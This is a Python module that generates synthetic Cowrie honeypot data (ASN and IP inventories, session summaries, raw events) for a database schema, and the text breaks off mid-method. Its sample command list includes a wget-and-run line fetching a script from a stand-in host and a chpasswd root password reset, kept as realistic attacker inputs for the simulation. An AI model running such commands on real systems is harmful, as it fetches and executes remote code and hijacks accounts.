"""Realistic synthetic data for a database at Alembic revision ``0002_snapshot_columns``.

:func:`generate` fills ``asn_inventory``, ``ip_inventory``, ``session_summaries`` and
``raw_events`` the way cowrieprocessor's loader left production before the snapshot
fix: every session has its counters, timestamps and ingest-time ``enrichment``, and the
five snapshot columns are all NULL. It serves ``cowrie-db demo-data``, ``make demo``
and the benchmarks, so it streams: rows are built and written ``chunk_size`` sessions
at a time, and what it keeps in memory grows with the number of *IPs* (a few small
arrays and the IP strings), never with the number of sessions.

What the data looks like
------------------------
* ASNs: real, well-known networks first (AS4134 CHINANET, CN, is always there, and is
  the heaviest one, so ``snapshot_country = 'CN' AND snapshot_asn = 4134`` finds rows),
  then synthetic ones; about ``ips / 40`` of them (at least 10) unless ``asns`` is set.
* IPs: public IPv4 dotted quads (no private, reserved, multicast or documentation
  ranges) and ``ipv6_fraction`` of compressed lower-case IPv6 in a prefix of the
  ASN's registry. Countries are skewed (CN, US, RU, BR, IN, ...). The ``enrichment``
  JSON has the ``maxmind`` / ``cymru`` / ``dshield`` / ``spur`` / ``greynoise`` /
  ``validation`` sections of cowrieprocessor: about 90% carry ``maxmind.country``,
  5% only ``cymru.country``, 4% only ``dshield.ip.ascountry`` and 1% no country at
  all (their generated ``geo_country`` is ``'XX'``). ``ip_types`` follows the
  priority order VPN > TOR > PROXY > DATACENTER > RESIDENTIAL > MOBILE and is
  sometimes empty; ``enrichment_updated_at`` is NULL for about 0.5%.
  ``session_count``, ``first_seen`` and ``last_seen`` agree with the sessions, and
  the ASNs' ``unique_ip_count`` / ``total_session_count`` / ``first_seen`` /
  ``last_seen`` agree with their IPs.
* Sessions: each IP of the inventory gets at least one session when there are
  enough sessions; the rest are drawn with a Zipf-like law (weight ``1 / rank**0.9``),
  so the hottest IPs have thousands of sessions. Exactly
  ``round(sessions * unmatched_fraction)`` sessions use an IP that is *not* in
  ``ip_inventory``, and exactly ``round(sessions * raw_only_fraction)`` sessions have
  no ``enrichment.session_metadata.source_ip`` (their enrichment is NULL, ``{}``,
  ``{"session_metadata": {}}`` or metadata without the IP): their IP is known only
  from ``raw_events``. Both sets are drawn at random (selection sampling), independently.
* raw_events: each raw-only session has 1-4 events, about 5% of the others 1-3; all
  of a session's events carry its ``src_ip``, the earliest one is always
  ``cowrie.session.connect`` at the session's ``first_event_at``, and for about 10%
  of the multi-event sessions the rows are written out of timestamp order (as when
  log files are ingested out of order), so "earliest" must be decided by
  ``event_timestamp``, not by ``id``. ``payload_hash`` is the SHA-256 of the payload
  text as generated (compact JSON, sorted keys; that is the exact text stored on
  SQLite).

Determinism
-----------
Everything comes from ``random.Random`` instances seeded with strings derived from
``spec.seed`` (string seeds are hashed with SHA-512, so they do not depend on
``PYTHONHASHSEED``) and every timestamp, ``created_at`` / ``updated_at`` /
``ingest_at`` included, is an offset from 2025-01-01T00:00:00Z. The same spec on an
empty database therefore gives byte-identical rows (``raw_events.id`` included, as
long as the id sequence starts fresh). Session ids are 12 lower-case hex digits:
a counter passed through a 48-bit bijective mixer keyed from the seeded RNG, so they
look random but can never repeat within a run; IPs come from a keyed 32-bit (IPv4)
or 64-bit (IPv6 interface id) bijection the same way.

Existing rows (``force=True``)
------------------------------
Without ``force`` a database whose ``session_summaries`` has rows is refused. With
it, nothing is deleted or updated: the new rows are added on top. Keys can never
collide, because every generated key (session id, IP address, ASN number) that
already exists in the table is *skipped* and the next one of the same stream taken
(one lookup per chunk, done only when that table had rows at the start). So the
counts of new sessions and IPs are exactly the spec's, and the result is still
deterministic for a given seed and starting database. An ASN that already exists is
reused as it is (its statistics are not updated) and not counted in
``DemoResult.asns``. Running the same seed twice with ``force`` thus gives a second,
disjoint set of sessions and IPs.

Transactions
------------
PostgreSQL: one transaction for the whole run, loaded with ``COPY ... FROM STDIN``
(psycopg2), so a failure leaves nothing behind. SQLite: one ``BEGIN IMMEDIATE``
transaction per chunk with ``executemany`` (the WAL stays small); a failure leaves
the chunks already committed, so start again on a fresh file.
"""

from __future__ import annotations

import csv
import hashlib
import io
import ipaddress
import itertools
import json
import math
import random
import time
from array import array
from collections.abc import Callable, Sequence
from contextlib import AbstractContextManager, nullcontext
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import Any

import sqlalchemy as sa
from sqlalchemy import Connection, Engine

from cowrieprocessor.db.models import SNAPSHOT_COLUMNS

__all__ = ["DemoDataError", "DemoResult", "DemoSpec", "generate"]

Row = tuple[object, ...]


@dataclass(frozen=True)
class DemoSpec:
    """What to generate: ``sessions`` sessions over ``ips`` inventory IPs."""

    sessions: int
    ips: int
    seed: int = 1
    unmatched_fraction: float = 0.013  # sessions whose canonical IP is NOT in ip_inventory
    ipv6_fraction: float = 0.05  # of inventory IPs
    raw_only_fraction: float = 0.02  # sessions whose IP is known only from raw_events
    asns: int = 0  # 0 = derive (about ips/40, at least 10)


@dataclass
class DemoResult:
    """What was written (new rows only) and how long it took."""

    sessions: int
    ips: int
    asns: int
    raw_events: int
    unmatched_sessions: int
    raw_only_sessions: int
    seconds: float


class DemoDataError(RuntimeError):
    """The database or the spec is unsuitable; the message says why and what to do."""


# --- time ----------------------------------------------------------------------------

_EPOCH_AWARE = datetime(2025, 1, 1, tzinfo=UTC)
_EPOCH_NAIVE = datetime(2025, 1, 1)
_SECOND = 1_000_000  # timestamps are integer microseconds after the epoch
_DAY = 86_400 * _SECOND
_WINDOW = 365 * _DAY  # sessions happen during 2025


def _cowrie_ts(us: int) -> str:
    """Cowrie's own timestamp format: ``2025-03-04T12:34:56.123456Z``."""
    return (_EPOCH_NAIVE + timedelta(microseconds=us)).isoformat(timespec="microseconds") + "Z"


def _day(us: int) -> str:
    return (_EPOCH_NAIVE + timedelta(microseconds=us)).strftime("%Y-%m-%d")


class _Format:
    """How a value is spelled for the dialect (COPY csv on PostgreSQL, sqlite3 params)."""

    def __init__(self, dialect: str) -> None:
        self.pg = dialect == "postgresql"
        self.true: object = "t" if self.pg else 1
        self.false: object = "f" if self.pg else 0

    def ts(self, us: int | None) -> str | None:
        if us is None:
            return None
        if self.pg:
            value = _EPOCH_AWARE + timedelta(microseconds=us)
        else:  # SQLAlchemy's SQLite DateTime storage format
            value = _EPOCH_NAIVE + timedelta(microseconds=us)
        return value.isoformat(sep=" ", timespec="microseconds")

    def flag(self, value: bool) -> object:
        return self.true if value else self.false

    def ip_types(self, types: list[str]) -> str:
        if self.pg:  # text[] literal; the names need no quoting
            return "{" + ",".join(types) + "}"
        return _json(types)


def _json(value: object) -> str:
    return json.dumps(value, separators=(",", ":"))


def _json_sorted(value: object) -> str:
    return json.dumps(value, separators=(",", ":"), sort_keys=True)


# --- reference data ------------------------------------------------------------------

# code, name, weight (share of attack sources), registry, latitude, longitude
_COUNTRIES: tuple[tuple[str, str, float, str, float, float], ...] = (
    ("CN", "China", 18.0, "APNIC", 35.0, 105.0),
    ("US", "United States", 16.0, "ARIN", 39.8, -98.6),
    ("RU", "Russia", 7.0, "RIPE", 61.5, 105.3),
    ("BR", "Brazil", 6.0, "LACNIC", -14.2, -51.9),
    ("IN", "India", 6.0, "APNIC", 20.6, 79.0),
    ("DE", "Germany", 4.0, "RIPE", 51.2, 10.5),
    ("KR", "South Korea", 4.0, "APNIC", 35.9, 127.8),
    ("VN", "Vietnam", 4.0, "APNIC", 14.1, 108.3),
    ("NL", "Netherlands", 3.0, "RIPE", 52.1, 5.3),
    ("SG", "Singapore", 3.0, "APNIC", 1.35, 103.8),
    ("FR", "France", 3.0, "RIPE", 46.2, 2.2),
    ("GB", "United Kingdom", 2.5, "RIPE", 55.4, -3.4),
    ("ID", "Indonesia", 2.5, "APNIC", -0.8, 113.9),
    ("TW", "Taiwan", 2.0, "APNIC", 23.7, 121.0),
    ("HK", "Hong Kong", 2.0, "APNIC", 22.3, 114.2),
    ("JP", "Japan", 2.0, "APNIC", 36.2, 138.3),
    ("IR", "Iran", 1.5, "RIPE", 32.4, 53.7),
    ("UA", "Ukraine", 1.5, "RIPE", 48.4, 31.2),
    ("TR", "Turkey", 1.5, "RIPE", 39.0, 35.2),
    ("CA", "Canada", 1.5, "ARIN", 56.1, -106.3),
    ("AR", "Argentina", 1.0, "LACNIC", -38.4, -63.6),
    ("MX", "Mexico", 1.0, "LACNIC", 23.6, -102.6),
    ("TH", "Thailand", 1.0, "APNIC", 15.9, 100.9),
    ("PK", "Pakistan", 1.0, "APNIC", 30.4, 69.3),
    ("BD", "Bangladesh", 1.0, "APNIC", 23.7, 90.4),
    ("IT", "Italy", 1.0, "RIPE", 41.9, 12.6),
    ("ES", "Spain", 1.0, "RIPE", 40.5, -3.7),
    ("PL", "Poland", 1.0, "RIPE", 51.9, 19.1),
    ("RO", "Romania", 1.0, "RIPE", 45.9, 25.0),
    ("EG", "Egypt", 1.0, "AFRINIC", 26.8, 30.8),
    ("ZA", "South Africa", 1.0, "AFRINIC", -30.6, 22.9),
    ("CO", "Colombia", 0.7, "LACNIC", 4.6, -74.3),
    ("CL", "Chile", 0.5, "LACNIC", -35.7, -71.5),
    ("NG", "Nigeria", 0.5, "AFRINIC", 9.1, 8.7),
    ("KE", "Kenya", 0.5, "AFRINIC", -0.02, 37.9),
    ("SC", "Seychelles", 0.3, "AFRINIC", -4.7, 55.5),
)
_COUNTRY_INDEX = {c[0]: i for i, c in enumerate(_COUNTRIES)}
_COUNTRY_CUM = list(itertools.accumulate(c[2] for c in _COUNTRIES))

# number, organization, country, kind, weight (share of the inventory's IPs)
_KNOWN_ASNS: tuple[tuple[int, str, str, str, float], ...] = (
    (4134, "CHINANET-BACKBONE No.31,Jin-rong Street", "CN", "isp", 40.0),
    (14061, "DIGITALOCEAN-ASN", "US", "hosting", 14.0),
    (4837, "CHINA169-BACKBONE CHINA UNICOM China169 Backbone", "CN", "isp", 12.0),
    (16509, "AMAZON-02", "US", "hosting", 9.0),
    (
        45090,
        "TENCENT-NET-AP Shenzhen Tencent Computer Systems Company Limited",
        "CN",
        "hosting",
        7.0,
    ),
    (37963, "ALIBABA-CN-NET Hangzhou Alibaba Advertising Co.,Ltd.", "CN", "hosting", 7.0),
    (9808, "CHINAMOBILE-CN China Mobile Communications Group Co., Ltd.", "CN", "mobile", 6.0),
    (396982, "GOOGLE-CLOUD-PLATFORM", "US", "hosting", 6.0),
    (12389, "ROSTELECOM-AS PJSC Rostelecom", "RU", "isp", 5.0),
    (8075, "MICROSOFT-CORP-MSN-AS-BLOCK", "US", "hosting", 5.0),
    (132203, "TENCENT-NET-AP-CN Tencent Building, Kejizhongyi Avenue", "CN", "hosting", 4.0),
    (63949, "AKAMAI-LINODE-AP Akamai Connected Cloud", "US", "hosting", 4.0),
    (20473, "AS-VULTR", "US", "hosting", 4.0),
    (16276, "OVH", "FR", "hosting", 4.0),
    (24940, "HETZNER-AS", "DE", "hosting", 4.0),
    (4766, "KIXS-AS-KR Korea Telecom", "KR", "isp", 4.0),
    (4812, "CHINANET-SH-AP China Telecom (Group)", "CN", "isp", 3.0),
    (28573, "Claro NXT Telecomunicacoes Ltda", "BR", "isp", 3.0),
    (18881, "TELEFONICA BRASIL S.A", "BR", "isp", 3.0),
    (9829, "BSNL-NIB National Internet Backbone", "IN", "isp", 3.0),
    (24560, "AIRTELBROADBAND-AS-AP Bharti Airtel Ltd., Telemedia Services", "IN", "isp", 3.0),
    (55836, "RELIANCEJIO-IN Reliance Jio Infocomm Limited", "IN", "mobile", 3.0),
    (7552, "VIETEL-AS-AP Viettel Group", "VN", "isp", 3.0),
    (45899, "VNPT-AS-VN VNPT Corp", "VN", "isp", 3.0),
    (49505, "SELECTEL", "RU", "hosting", 3.0),
    (51167, "CONTABO", "DE", "hosting", 3.0),
    (14618, "AMAZON-AES", "US", "hosting", 3.0),
    (8359, "MTS PJSC MTS", "RU", "mobile", 2.0),
    (9318, "SKB-AS SK Broadband Co Ltd", "KR", "isp", 2.0),
    (9009, "M247", "GB", "hosting", 2.0),
    (202425, "INT-NETWORK", "SC", "hosting", 2.0),
    (17974, "TELKOMNET-AS2-AP PT Telekomunikasi Indonesia", "ID", "isp", 2.0),
    (3462, "HINET Data Communication Business Group", "TW", "isp", 2.0),
    (36352, "AS-COLOCROSSING", "US", "hosting", 2.0),
    (135377, "UCLOUD-HK-AS-AP UCLOUD INFORMATION TECHNOLOGY HK LIMITED", "HK", "hosting", 2.0),
    (7922, "COMCAST-7922", "US", "isp", 1.5),
    (4713, "OCN NTT Communications Corporation", "JP", "isp", 1.0),
    (4760, "HKTIMS-AP HKT Limited", "HK", "isp", 1.0),
    (58224, "TCI", "IR", "isp", 1.0),
    (9121, "TTNET", "TR", "isp", 1.0),
    (3320, "DTAG Internet service provider operations", "DE", "isp", 1.0),
)

_NAME_HEADS = (
    "Nord",
    "Blue",
    "Star",
    "Pacific",
    "Atlas",
    "Delta",
    "Sky",
    "Iron",
    "Silver",
    "Green",
    "Terra",
    "Nova",
    "Metro",
    "Prime",
    "Rapid",
    "Orion",
    "Aurora",
    "Vertex",
    "Quantum",
    "Coral",
    "Summit",
    "Falcon",
    "Harbor",
    "Zenith",
)
_NAME_TAILS = (
    "net",
    "link",
    "line",
    "wave",
    "com",
    "host",
    "cloud",
    "tel",
    "fiber",
    "data",
    "web",
    "core",
)
_KIND_WORDS = {
    "hosting": ("Hosting", "Cloud", "Datacenter", "Servers"),
    "isp": ("Telecom", "Broadband", "Internet", "Communications"),
    "mobile": ("Mobile", "Wireless", "Cellular"),
    "business": ("Networks", "Solutions", "Systems"),
    "education": ("University", "Research Network", "Academic Network"),
}
_SUFFIXES = ("Ltd", "LLC", "Inc.", "GmbH", "S.A.", "Co., Ltd.", "B.V.", "JSC", "")
_KINDS = ("hosting", "isp", "business", "mobile", "education")
_KIND_CUM = list(itertools.accumulate((45.0, 38.0, 10.0, 5.0, 2.0)))

# the first 16 bits of IPv6 prefixes handed out by each registry
_V6_PREFIX16 = {
    "APNIC": (0x2400, 0x2401, 0x2402, 0x2403, 0x2404, 0x2405, 0x2406, 0x2407, 0x240E),
    "ARIN": (0x2600, 0x2602, 0x2603, 0x2604, 0x2605, 0x2606, 0x2607, 0x2620),
    "RIPE": (0x2A00, 0x2A01, 0x2A02, 0x2A03, 0x2A05, 0x2A06, 0x2A0E, 0x2001),
    "LACNIC": (0x2800, 0x2801, 0x2803, 0x2804),
    "AFRINIC": (0x2C0F, 0x2C0E, 0x2001),
}

_IP_TYPE_ORDER = ("VPN", "TOR", "PROXY", "DATACENTER", "RESIDENTIAL", "MOBILE")
_SENSORS = (
    "honeypot-sg-01",
    "honeypot-fra-01",
    "honeypot-nyc-02",
    "honeypot-syd-01",
    "honeypot-gru-01",
    "honeypot-blr-01",
    "honeypot-ams-03",
    "honeypot-tyo-01",
)
_SSH_CLIENTS = (
    "SSH-2.0-Go",
    "SSH-2.0-libssh_0.9.6",
    "SSH-2.0-libssh2_1.10.0",
    "SSH-2.0-OpenSSH_8.9p1",
    "SSH-2.0-PuTTY_Release_0.78",
    "SSH-2.0-paramiko_3.4.0",
    "SSH-2.0-ZGrab ZGrab SSH Survey",
    "SSH-2.0-OpenSSH_7.4",
)
_USERNAMES = ("root", "admin", "ubuntu", "user", "test", "oracle", "postgres", "pi", "git")
_PASSWORDS = ("123456", "admin", "password", "root", "1234", "12345678", "qwerty", "raspberry")
_COMMANDS = (
    "uname -a",
    "cat /proc/cpuinfo | grep name | wc -l",
    "whoami",
    "ls -la /tmp",
    "cd /tmp; wget http://198.51.100.7/x.sh; sh x.sh",
    "free -m",
    "nproc",
    'echo "root:Xk2p9q" | chpasswd',
    "crontab -l",
    "cat /etc/issue",
)
_MIDDLE_EVENTS = (
    "cowrie.client.version",
    "cowrie.client.kex",
    "cowrie.login.failed",
    "cowrie.login.success",
    "cowrie.command.input",
)
_DSHIELD_ERRORS = ("timeout", "rate limited", "HTTP 502")

# --- keyed bijections: unique, random-looking keys with O(1) memory -----------------

_M32 = (1 << 32) - 1
_M48 = (1 << 48) - 1
_M64 = (1 << 64) - 1


def _mix32(x: int, k1: int, k2: int) -> int:
    x = (x ^ k1) & _M32
    x = ((x ^ (x >> 16)) * 0x45D9F3B) & _M32
    x = ((x ^ (x >> 16)) * 0x2C1B3C6D) & _M32
    x ^= x >> 15
    return (x + k2) & _M32


def _mix48(x: int, k1: int, k2: int) -> int:
    x = (x ^ k1) & _M48
    x = ((x ^ (x >> 23)) * 0xFF51AFD7ED55) & _M48
    x = ((x ^ (x >> 21)) * 0xC4CEB9FE1A85) & _M48
    x ^= x >> 24
    return (x + k2) & _M48


def _mix64(x: int, k1: int, k2: int) -> int:
    x = (x ^ k1) & _M64
    x = ((x ^ (x >> 30)) * 0xBF58476D1CE4E5B9) & _M64
    x = ((x ^ (x >> 27)) * 0x94D049BB133111EB) & _M64
    x ^= x >> 31
    return (x + k2) & _M64


_BOGON_FIRST_OCTETS = frozenset({0, 10, 127, *range(224, 256)})
_BOGON_16 = frozenset({(169 << 8) | 254, (192 << 8) | 168})
_BOGON_24 = frozenset(
    {
        (192 << 16) | (0 << 8) | 0,
        (192 << 16) | (0 << 8) | 2,
        (198 << 16) | (51 << 8) | 100,
        (203 << 16) | (0 << 8) | 113,
    }
)


def _is_bogon(x: int) -> bool:
    return (
        (x >> 24) in _BOGON_FIRST_OCTETS
        or (x >> 16) in _BOGON_16
        or (x >> 20) == (172 << 4) | 1  # 172.16.0.0/12
        or (x >> 22) == (100 << 2) | 1  # 100.64.0.0/10
        or (x >> 17) == (198 << 7) | 9  # 198.18.0.0/15
        or (x >> 8) in _BOGON_24
    )


class _IpStream:
    """Distinct public IPs: a counter through a keyed bijection (bogons skipped)."""

    def __init__(self, rng: random.Random) -> None:
        self._k = [rng.getrandbits(64) for _ in range(4)]
        self._v4 = 0
        self._v6 = 0

    def v4(self) -> str:
        k1, k2 = self._k[0] & _M32, self._k[1] & _M32
        while True:
            x = _mix32(self._v4, k1, k2)
            self._v4 += 1
            if not _is_bogon(x):
                return f"{x >> 24}.{(x >> 16) & 255}.{(x >> 8) & 255}.{x & 255}"

    def v6(self, registry: str) -> str:
        # Uniqueness comes from the interface id alone (a bijection of the counter);
        # the prefix only makes the address look like the registry's.
        iid = _mix64(self._v6, self._k[2], self._k[3])
        self._v6 += 1
        prefixes = _V6_PREFIX16[registry]
        top = prefixes[iid % len(prefixes)]
        net = (iid >> 13) & 0xFFFF_FFFF_FFFF
        value = (top << 112) | (net << 64) | iid
        return ipaddress.IPv6Address(value).compressed


# --- database access ----------------------------------------------------------------


@dataclass(frozen=True)
class _Table:
    copy_sql: str
    insert_sql: str


_ASN_TABLE = _Table(
    "COPY asn_inventory (asn_number, organization_name, organization_country, rir_registry, "
    "asn_type, first_seen, last_seen, unique_ip_count, total_session_count, enrichment, "
    "enrichment_updated_at, created_at, updated_at) FROM STDIN WITH (FORMAT csv)",
    "INSERT INTO asn_inventory (asn_number, organization_name, organization_country, "
    "rir_registry, asn_type, first_seen, last_seen, unique_ip_count, total_session_count, "
    "enrichment, enrichment_updated_at, created_at, updated_at) "
    "VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)",
)
_IP_TABLE = _Table(
    "COPY ip_inventory (ip_address, current_asn, asn_last_verified, first_seen, last_seen, "
    "session_count, enrichment, enrichment_updated_at, enrichment_version, ip_types, "
    "is_scanner, is_bogon, created_at, updated_at) FROM STDIN WITH (FORMAT csv)",
    "INSERT INTO ip_inventory (ip_address, current_asn, asn_last_verified, first_seen, "
    "last_seen, session_count, enrichment, enrichment_updated_at, enrichment_version, "
    "ip_types, is_scanner, is_bogon, created_at, updated_at) "
    "VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)",
)
_SESSION_TABLE = _Table(
    "COPY session_summaries (session_id, first_event_at, last_event_at, event_count, "
    "command_count, file_downloads, login_attempts, ssh_key_injections, unique_ssh_keys, "
    "vt_flagged, dshield_flagged, risk_score, matcher, source_files, enrichment, "
    "created_at, updated_at) FROM STDIN WITH (FORMAT csv)",
    "INSERT INTO session_summaries (session_id, first_event_at, last_event_at, event_count, "
    "command_count, file_downloads, login_attempts, ssh_key_injections, unique_ssh_keys, "
    "vt_flagged, dshield_flagged, risk_score, matcher, source_files, enrichment, "
    "created_at, updated_at) VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)",
)
_EVENT_TABLE = _Table(
    "COPY raw_events (ingest_id, ingest_at, source, source_offset, payload, payload_hash, "
    "session_id, event_type, event_timestamp) FROM STDIN WITH (FORMAT csv)",
    "INSERT INTO raw_events (ingest_id, ingest_at, source, source_offset, payload, "
    "payload_hash, session_id, event_type, event_timestamp) "
    "VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?)",
)

# Which of the given keys already exist: one parameter (an array on PostgreSQL, a JSON
# array on SQLite), whatever the number of keys.
_EXISTING_SQL = {
    ("postgresql", "session"): (
        "SELECT session_id FROM session_summaries WHERE session_id = ANY(:keys)"
    ),
    ("sqlite", "session"): (
        "SELECT session_id FROM session_summaries "
        "WHERE session_id IN (SELECT value FROM json_each(:keys))"
    ),
    ("postgresql", "ip"): "SELECT ip_address FROM ip_inventory WHERE ip_address = ANY(:keys)",
    ("sqlite", "ip"): (
        "SELECT ip_address FROM ip_inventory "
        "WHERE ip_address IN (SELECT value FROM json_each(:keys))"
    ),
    ("postgresql", "asn"): "SELECT asn_number FROM asn_inventory WHERE asn_number = ANY(:keys)",
    ("sqlite", "asn"): (
        "SELECT asn_number FROM asn_inventory "
        "WHERE asn_number IN (SELECT value FROM json_each(:keys))"
    ),
}
_ANY_ROW_SQL = {
    "session": "SELECT count(*) FROM session_summaries",
    "ip": "SELECT 1 FROM ip_inventory LIMIT 1",
    "asn": "SELECT 1 FROM asn_inventory LIMIT 1",
}
_REQUIRED_TABLES = ("asn_inventory", "ip_inventory", "session_summaries", "raw_events")


class _Sink:
    """Writes rows through the connection's driver: COPY on PostgreSQL, executemany on SQLite."""

    def __init__(self, conn: Connection, dialect: str) -> None:
        self.conn = conn
        self.dialect = dialect
        self.pg = dialect == "postgresql"
        self.driver: Any = conn.connection.driver_connection
        if self.pg:
            cursor = self.driver.cursor()
            try:
                copies = hasattr(cursor, "copy_expert")
            finally:
                cursor.close()
            if not copies:
                raise DemoDataError(
                    "demo data on PostgreSQL is loaded with COPY through psycopg2: use a "
                    "postgresql+psycopg2:// URL"
                )

    def chunk(self) -> AbstractContextManager[object]:
        """The transaction of one chunk: SQLite commits each chunk, PostgreSQL the run."""
        if self.pg:
            return nullcontext()
        return self.conn.begin()

    def write(self, table: _Table, rows: Sequence[Row]) -> None:
        if not rows:
            return
        cursor = self.driver.cursor()
        try:
            if self.pg:
                buffer = io.StringIO()
                csv.writer(buffer, lineterminator="\n").writerows(rows)
                buffer.seek(0)
                cursor.copy_expert(table.copy_sql, buffer)
            else:
                cursor.executemany(table.insert_sql, rows)
        finally:
            cursor.close()

    def existing(self, kind: str, keys: Sequence[object]) -> set[Any]:
        if not keys:
            return set()
        param: object = list(keys) if self.pg else _json(list(keys))
        sql = _EXISTING_SQL[(self.dialect, kind)]
        return {row[0] for row in self.conn.execute(sa.text(sql), {"keys": param})}


def _check_schema(engine: Engine) -> None:
    inspector = sa.inspect(engine)
    tables = set(inspector.get_table_names())
    missing = [t for t in _REQUIRED_TABLES if t not in tables]
    hint = "run `alembic upgrade head` (or at least `alembic upgrade 0002_snapshot_columns`)"
    if missing:
        raise DemoDataError(
            f"the database is not at Alembic revision 0002_snapshot_columns or later: "
            f"table(s) {', '.join(missing)} missing; {hint} first"
        )
    columns = {c["name"] for c in inspector.get_columns("session_summaries")}
    lacking = [c for c in SNAPSHOT_COLUMNS if c not in columns]
    if lacking:
        raise DemoDataError(
            f"the database is not at Alembic revision 0002_snapshot_columns or later: "
            f"session_summaries has no {', '.join(lacking)} column(s); {hint} first"
        )


def _validate(spec: DemoSpec, chunk_size: int) -> None:
    problems: list[str] = []
    if spec.sessions < 0:
        problems.append(f"sessions must be >= 0 (got {spec.sessions})")
    if spec.ips < 0:
        problems.append(f"ips must be >= 0 (got {spec.ips})")
    if spec.sessions > 0 and spec.ips < 1:
        problems.append(f"ips must be >= 1 when sessions > 0 (got {spec.ips})")
    if spec.asns < 0:
        problems.append(f"asns must be >= 0 (got {spec.asns})")
    for name in ("unmatched_fraction", "ipv6_fraction", "raw_only_fraction"):
        value = getattr(spec, name)
        if not (isinstance(value, int | float) and 0.0 <= value <= 1.0):
            problems.append(f"{name} must be within [0, 1] (got {value!r})")
    if chunk_size < 1:
        problems.append(f"chunk_size must be >= 1 (got {chunk_size})")
    if problems:
        raise DemoDataError("invalid demo data spec: " + "; ".join(problems))


# --- the plan: who attacks when, shared by the pre-pass and the real pass ----------------


@dataclass(frozen=True)
class _Asn:
    number: int
    name: str
    country: int  # index into _COUNTRIES
    kind: str
    weight: float


def _build_asns(rng: random.Random, count: int) -> list[_Asn]:
    asns = [
        _Asn(number, name, _COUNTRY_INDEX[cc], kind, weight)
        for number, name, cc, kind, weight in _KNOWN_ASNS[:count]
    ]
    used = {a.number for a in asns}
    while len(asns) < count:
        number = rng.randrange(1_000, 400_000)
        if number in used or number == 23_456 or 64_496 <= number <= 131_071:
            continue  # AS_TRANS and the reserved / private ranges
        used.add(number)
        country = rng.choices(range(len(_COUNTRIES)), cum_weights=_COUNTRY_CUM)[0]
        kind = rng.choices(_KINDS, cum_weights=_KIND_CUM)[0]
        words = _KIND_WORDS[kind]
        name = (
            f"{rng.choice(_NAME_HEADS)}{rng.choice(_NAME_TAILS)} {rng.choice(words)} "
            f"{rng.choice(_SUFFIXES)}"
        ).strip()
        weight = min(rng.paretovariate(1.6), 20.0) * _COUNTRIES[country][2] / 6.0
        asns.append(_Asn(number, name, country, kind, weight))
    return asns


_ZIPF_EXPONENT = 0.9
_DURATION_MU = 3.0  # log-normal session duration: median ~20 s, long tail
_DURATION_SIGMA = 1.5
_MAX_DURATION = 6 * 3600 * _SECOND


class _AttackStream:
    """IP and time of the matched sessions, in order; replayable from the seed.

    The pre-pass and the real pass both read it from a fresh instance, so the
    per-IP counts and first/last times computed up front match the sessions exactly.
    Each IP gets one session (spread evenly through the stream) when there are enough
    matched sessions; the others follow the Zipf-like weights.
    """

    def __init__(self, seed: int, ips: int, matched: int, cum_weights: list[float]) -> None:
        self._draw = random.Random(f"cowrie-demo/{seed}/ip-draw")
        self._time = random.Random(f"cowrie-demo/{seed}/matched-time")
        self._ips = ips
        self._matched = matched
        self._cum = cum_weights
        self._population = range(ips)
        self._j = 0

    def take(self, k: int) -> tuple[list[int], list[int], list[int]]:
        draws = self._draw.choices(self._population, cum_weights=self._cum, k=k)
        ips, total, j0 = self._ips, self._matched, self._j
        for t in range(k):
            j = j0 + t
            cover = (j * ips) // total
            if j == 0 or cover != ((j - 1) * ips) // total:
                draws[t] = cover
        self._j = j0 + k
        starts, ends = _times(self._time, k)
        return draws, starts, ends


def _times(rng: random.Random, k: int) -> tuple[list[int], list[int]]:
    uniform, gauss, exp = rng.random, rng.gauss, math.exp
    starts = [int(uniform() * _WINDOW) for _ in range(k)]
    ends = [
        s
        + min(int(exp(_DURATION_MU + _DURATION_SIGMA * gauss()) * _SECOND), _MAX_DURATION)
        + 200_000
        for s in starts
    ]
    return starts, ends


# --- the generator ------------------------------------------------------------------


class _Generator:
    def __init__(
        self,
        spec: DemoSpec,
        sink: _Sink,
        fmt: _Format,
        chunk_size: int,
        check: dict[str, bool],
    ) -> None:
        self.spec = spec
        self.sink = sink
        self.fmt = fmt
        self.chunk_size = chunk_size
        self.check = check
        seed = spec.seed
        self.rng_asn = random.Random(f"cowrie-demo/{seed}/asn")
        self.rng_ipattr = random.Random(f"cowrie-demo/{seed}/ip-attributes")
        self.rng_ip = random.Random(f"cowrie-demo/{seed}/ip-rows")
        self.rng_sel = random.Random(f"cowrie-demo/{seed}/select")
        self.rng_unmatched = random.Random(f"cowrie-demo/{seed}/unmatched")
        self.rng_sess = random.Random(f"cowrie-demo/{seed}/session-rows")
        self.ip_stream = _IpStream(random.Random(f"cowrie-demo/{seed}/ip-keys"))
        keys = random.Random(f"cowrie-demo/{seed}/session-keys")
        self.sid_keys = (keys.getrandbits(48), keys.getrandbits(48))
        self.sid_counter = 0
        self.ingest_tag = f"{keys.getrandbits(32):08x}"
        self.file_offsets: dict[str, int] = {}

        n = spec.sessions
        self.n_unmatched = round(n * spec.unmatched_fraction)
        self.n_raw_only = round(n * spec.raw_only_fraction)
        self.n_matched = n - self.n_unmatched
        n_asns = spec.asns or (max(10, round(spec.ips / 40)) if spec.ips else 0)
        self.asns = _build_asns(self.rng_asn, n_asns)
        if spec.ips and not self.asns:
            raise DemoDataError("asns must be >= 1 when ips > 0")
        self.ip_asn = array("i")  # per inventory IP: index into self.asns
        self.ip_country = array("B")  # index into _COUNTRIES (where MaxMind places it)
        self.ip_v6 = bytearray()
        self.ip_count = array("q")  # sessions per IP, and their first / last times
        self.ip_first = array("q")
        self.ip_last = array("q")
        self.cum_weights: list[float] = []
        self.ip_strings: list[str] = []
        self.unmatched_pool: list[str] = []
        self.result = DemoResult(0, 0, 0, 0, 0, 0, 0.0)

    # -- plan ------------------------------------------------------------------------

    def plan(self) -> None:
        """Assign IPs to ASNs and countries, then replay the attacks to count them."""
        spec, rng = self.spec, self.rng_ipattr
        ips = spec.ips
        if ips:
            asn_cum = list(itertools.accumulate(a.weight for a in self.asns))
            self.ip_asn = array("i", rng.choices(range(len(self.asns)), cum_weights=asn_cum, k=ips))
        self.ip_country = array("B", bytes(ips))
        self.ip_v6 = bytearray(ips)
        countries = range(len(_COUNTRIES))
        for idx in range(ips):
            asn = self.asns[self.ip_asn[idx]]
